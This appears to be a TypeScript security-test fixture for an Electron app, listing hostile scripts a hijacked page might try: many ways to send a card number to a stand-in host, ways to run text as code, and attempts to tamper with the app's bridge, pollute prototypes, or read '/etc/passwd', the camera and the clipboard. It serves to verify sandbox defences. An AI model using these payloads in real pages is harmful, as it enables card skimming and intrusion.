/** Targets that a script tries to reach: nothing may ever arrive there. */
export interface Target {
  readonly http: string;
  readonly ws: string;
  /** `host:port` of a socket for datagrams. */
  readonly udp: string;
  /** `host:port` of a socket that takes any bytes. */
  readonly tcp: string;
}

/**
 * One attack by a page that was taken over.
 *
 * `body` runs in an async function in the page with `t`, the target. It returns `harm` and its achievement,
 * or anything else, or throws. `arrives` is what the target receives when the page is an ordinary one.
 */
export interface HostileScript {
  readonly name: string;
  readonly body: string;
  readonly arrives: string | null;
}

const sends = (name: string, body: string): HostileScript => ({
  name,
  body,
  arrives:
    /t\.(?:http|ws) \+ '(\/[a-z-]+)/u.exec(body)?.[1] ?? /t\.(udp|tcp)/u.exec(body)?.[1] ?? null,
});
const tries = (name: string, body: string): HostileScript => ({ name, body, arrives: null });
const wait = 'await new Promise((done) => setTimeout(done, 120));';
const add = (tag: string, set: string): string =>
  `const e = document.createElement('${tag}'); ${set}; document.body.append(e); ${wait} e.remove();`;

/** Ways to send data out. */
const sending: readonly HostileScript[] = [
  sends('fetch', `await fetch(t.http + '/fetch?card=4111111111111111');`),
  sends(
    'fetch that outlives the page',
    `await fetch(t.http + '/keep', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' });`,
  ),
  sends(
    'XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('POST', t.http + '/xhr'); x.send('x'); ${wait}`,
  ),
  sends('beacon', `navigator.sendBeacon(t.http + '/beacon', 'x'); ${wait}`),
  sends('picture', `const i = new Image(); i.src = t.http + '/img?x'; ${wait}`),
  sends('picture by srcset', add('img', `e.srcset = t.http + '/srcset 1x'`)),
  sends(
    'background in a style',
    add('div', `e.style.backgroundImage = 'url(' + t.http + '/bg)'; e.textContent = 'x'`),
  ),
  sends(
    'style sheet with the page’s own nonce',
    `const own = document.querySelector('[nonce]')?.nonce ?? '';` +
      add('style', `e.nonce = own; e.textContent = '@import url(' + t.http + '/import);'`),
  ),
  sends('linked style sheet', add('link', `e.rel = 'stylesheet'; e.href = t.http + '/css'`)),
  sends('font', `await new FontFace('x', 'url(' + t.http + '/font)').load();`),
  sends(
    'WebSocket',
    `const s = new WebSocket(t.ws + '/ws'); await new Promise((done) => { s.onerror = done; s.onopen = done; });`,
  ),
  sends('EventSource', `const s = new EventSource(t.http + '/events'); ${wait} s.close();`),
  sends(
    'WebRTC over UDP',
    `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + t.udp }] }); c.createDataChannel('x');
     await c.setLocalDescription(await c.createOffer()); ${wait}`,
  ),
  sends(
    'WebRTC over TCP',
    `const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + t.tcp + '?transport=tcp', username: 'card', credential: 'x' }] });
     c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); ${wait}`,
  ),
  tries('preconnect', add('link', `e.rel = 'preconnect'; e.href = t.http`)),
  sends('prefetch', add('link', `e.rel = 'prefetch'; e.href = t.http + '/prefetch'`)),
  sends('preload', add('link', `e.rel = 'preload'; e.as = 'image'; e.href = t.http + '/preload'`)),
  tries(
    'dns-prefetch',
    add('link', `e.rel = 'dns-prefetch'; e.href = '//card-4111.hostile.example'`),
  ),
  sends(
    'form',
    add('form', `e.action = t.http + '/form'; e.method = 'post'; setTimeout(() => e.submit(), 0)`),
  ),
  sends('form of another frame', add('iframe', `e.src = t.http + '/frame'`)),
  sends(
    'frame with a document of its own',
    add('iframe', `e.srcdoc = '<img src="' + t.http + '/srcdoc">'`),
  ),
  sends(
    'fetch of a blank frame',
    `const e = document.createElement('iframe'); document.body.append(e);
     e.contentWindow.fetch(t.http + '/blank', { mode: 'no-cors' }).catch(() => {}); ${wait} e.remove();`,
  ),
  sends('object', add('object', `e.data = t.http + '/object'`)),
  sends('embed', add('embed', `e.src = t.http + '/embed'`)),
  sends('sound', `const a = new Audio(t.http + '/audio'); a.load(); ${wait}`),
  sends('film', add('video', `e.src = t.http + '/video'; e.load()`)),
  sends('poster of a film', add('video', `e.poster = t.http + '/poster'`)),
  sends('script from elsewhere', add('script', `e.src = t.http + '/script.js'`)),
  sends('import()', `await import(t.http + '/module.js');`),
  tries('worker from elsewhere', `new Worker(t.http + '/worker.js'); ${wait}`),
  sends(
    'worker from a blob',
    `new Worker(URL.createObjectURL(new Blob(['fetch("' + t.http + '/blob-worker", {mode: "no-cors"})']))); ${wait}`,
  ),
  tries(
    'service worker',
    `await navigator.serviceWorker.register('/assets/sw.js'); return 'harm: it is registered';`,
  ),
  sends(
    'window.open',
    `if (window.open(t.http + '/open')) return 'harm: a window opened'; ${wait}`,
  ),
  sends(
    'link that is followed',
    add('a', `e.href = t.http + '/link'; e.target = '_blank'; e.click()`),
  ),
  sends('ping of a link', add('a', `e.href = '#'; e.ping = t.http + '/ping'; e.click()`)),
  sends('download', add('a', `e.href = t.http + '/file'; e.download = 'x'; e.click()`)),
  sends('location', `location.href = t.http + '/location'; ${wait}`),
  sends('location.replace', `location.replace(t.http + '/replace'); ${wait}`),
  sends(
    'refresh in a meta element',
    `const e = document.createElement('meta'); e.httpEquiv = 'refresh'; e.content = '0;url=' + t.http + '/refresh'; document.head.append(e); ${wait} e.remove();`,
  ),
  sends('document.write', `document.write('<img src="' + t.http + '/write">'); ${wait}`),
  sends(
    'base address',
    `const e = document.createElement('base'); e.href = t.http + '/base-of/x'; document.head.append(e);
     const i = new Image(); i.src = 'base'; ${wait} e.remove();`,
  ),
];

/** Ways to run text as code, which the page's policy and Trusted Types forbid. */
export const codeScripts: readonly HostileScript[] = [
  tries('eval', `return 'harm: ' + (0, eval)('1 + 1');`),
  tries('new Function', `return 'harm: ' + new Function('return 2')();`),
  tries(
    'timer of text',
    `window.hit = 0; setTimeout('window.hit = 1', 0); ${wait} if (window.hit) return 'harm: it ran';`,
  ),
  tries(
    'inline script',
    `window.hit = 0; ${add('script', `e.textContent = 'window.hit = 1'`)} if (window.hit) return 'harm: it ran';`,
  ),
  tries(
    'handler in markup',
    `window.hit = 0; ${add('div', `e.innerHTML = '<img src=x onerror="window.hit=1">'`)} if (window.hit) return 'harm: it ran';`,
  ),
  tries(
    'handler attribute',
    `window.hit = 0; ${add('button', `e.setAttribute('onclick', 'window.hit=1'); e.click()`)} if (window.hit) return 'harm: it ran';`,
  ),
  tries(
    'javascript: address',
    `window.hit = 0; ${add('a', `e.href = 'javascript:window.hit=1'; e.click()`)} if (window.hit) return 'harm: it ran';`,
  ),
  tries(
    'data: script',
    `window.hit = 0; ${add('script', `e.src = 'data:text/javascript,window.hit=1'`)} if (window.hit) return 'harm: it ran';`,
  ),
  tries(
    'blob: script',
    `window.hit = 0; ${add('script', `e.src = URL.createObjectURL(new Blob(['window.hit=1'], { type: 'text/javascript' }))`)} if (window.hit) return 'harm: it ran';`,
  ),
  tries(
    'module of a data: address',
    `await import('data:text/javascript,export default 1'); return 'harm: imported';`,
  ),
  tries(
    'WebAssembly',
    `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 'harm: compiled';`,
  ),
  tries(
    'a policy of its own',
    `trustedTypes.createPolicy('mine', { createScript: (text) => text }); return 'harm: made';`,
  ),
];

/** Ways to reach more of the app, or of the computer, than the page may. */
const reaching: readonly HostileScript[] = [
  tries(
    'changing the bridge',
    `const { call } = window.tillroom;
     try { window.tillroom.call = () => 1; } catch {}
     try { delete window.tillroom.on; } catch {}
     try { Object.defineProperty(window, 'tillroom', { value: {} }); } catch {}
     const same = typeof window.tillroom.on === 'function' && window.tillroom.call === call;
     return same ? '' : 'harm: the bridge changed';`,
  ),
  tries(
    'poisoning prototypes under the bridge',
    `const before = Object.getOwnPropertyDescriptor(Object.prototype, 'role');
     Object.prototype.role = 'admin'; Object.prototype.isPackaged = false;
     const then = Promise.prototype.then; let seen = 0;
     Promise.prototype.then = function (...more) { seen += 1; return then.apply(this, more); };
     try {
       const answer = await window.tillroom.call('session.status', {});
       return JSON.stringify(answer).includes('"secret') ? 'harm: a secret came' : '';
     } finally { Promise.prototype.then = then; delete Object.prototype.role; delete Object.prototype.isPackaged; }`,
  ),
  tries(
    'operations that do not exist',
    `const names = ['vault.read', 'accounts.secret', 'shell.open', '__proto__', 'constructor', 'toString', 'session', 'session.', '', ' session.status',
       'SESSION.STATUS', 'session.status\\0', 'ledger.query', 'fs.readFile', 'app.quit', 'charge.submit.', 'tillroom:call', null, 7, {}, [], undefined];
     for (const name of names) {
       const answer = await window.tillroom.call(name, {});
       if (answer.ok) return 'harm: ' + String(name) + ' answered';
     }`,
  ),
  tries(
    'inputs that are more than data',
    `const loop = {}; loop.self = loop;
     const inputs = [loop, () => 1, new Proxy({}, {}), new Map(), { get role() { return 'admin'; } }, JSON.parse('{"__proto__":{"role":"admin"},"x":1}'), 'x'.repeat(1e6), 1n, Symbol('x'), document.body];
     for (const input of inputs) {
       const answer = await window.tillroom.call('session.switch-role', input).catch(() => ({ ok: false }));
       if (answer.ok) return 'harm: an input got through';
     }`,
  ),
  tries(
    'Node and Electron',
    `return ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__dirname'].filter((name) => name in window).length > 0 ? 'harm: Node is here' : '';`,
  ),
  tries(
    'an address of its own, and history',
    `history.pushState({}, '', '/somewhere-else');
     const answer = await window.tillroom.call('session.status', {});
     history.replaceState({}, '', '/');
     return answer.ok ? 'harm: answered at another address' : '';`,
  ),
  tries(
    'the bridge in a frame',
    `const e = document.createElement('iframe'); document.body.append(e); const has = 'tillroom' in e.contentWindow; e.remove(); return has ? 'harm: a frame has it' : '';`,
  ),
  tries('reading the clipboard', `await navigator.clipboard.readText(); return 'harm: read';`),
  tries(
    'notifications',
    `return (await Notification.requestPermission()) === 'granted' ? 'harm: granted' : '';`,
  ),
  tries(
    'place',
    `return new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('harm: found'), () => done('')));`,
  ),
  tries(
    'camera',
    `await navigator.mediaDevices.getUserMedia({ video: true }); return 'harm: seen';`,
  ),
  tries('screen', `await navigator.mediaDevices.getDisplayMedia(); return 'harm: seen';`),
  tries('devices', `await navigator.usb.requestDevice({ filters: [] }); return 'harm: chosen';`),
  tries(
    'files of the computer',
    `const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send(); return x.responseText ? 'harm: read' : '';`,
  ),
  tries(
    'files beside the page',
    `const answer = await fetch('/../main/index.js'); return answer.ok ? 'harm: read' : '';`,
  ),
  tries(
    'a channel to another page',
    `const c = new BroadcastChannel('x'); c.postMessage('4111111111111111'); c.close(); window.opener?.postMessage('x', '*'); return window.opener ? 'harm: there is an opener' : '';`,
  ),
];

/** Every attempt, in an order in which none stops the next. */
export const hostileScripts: readonly HostileScript[] = [...sending, ...codeScripts, ...reaching];
